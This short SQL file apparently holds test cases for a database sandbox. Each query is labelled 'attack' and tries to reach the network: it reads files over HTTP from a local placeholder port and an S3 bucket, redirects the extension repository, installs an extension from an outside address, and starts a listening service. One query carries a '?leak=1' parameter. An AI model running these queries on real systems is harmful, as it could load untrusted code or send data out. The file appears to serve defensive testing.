-- Reaching the network.
-- attack: a file over HTTP
select * from read_text('http://127.0.0.1:{port}/x')
-- attack: a Parquet file over HTTP
select * from 'http://127.0.0.1:{port}/x.parquet'
-- attack: a CSV file over HTTP
select * from read_csv('http://127.0.0.1:{port}/?leak=1')
-- attack: a JSON file over HTTP
select * from read_json('http://127.0.0.1:{port}/x.json')
-- attack: a bucket
select * from read_parquet('s3://bucket/x.parquet')
-- attack: the repository of extensions at an address of ours
set custom_extension_repository = 'http://127.0.0.1:{port}'
-- attack: an extension from an address of ours
install httpfs from 'http://127.0.0.1:{port}'
-- attack: listening
call start_ui()
-- attack: an iceberg table
select * from iceberg_scan('http://127.0.0.1:{port}/t')
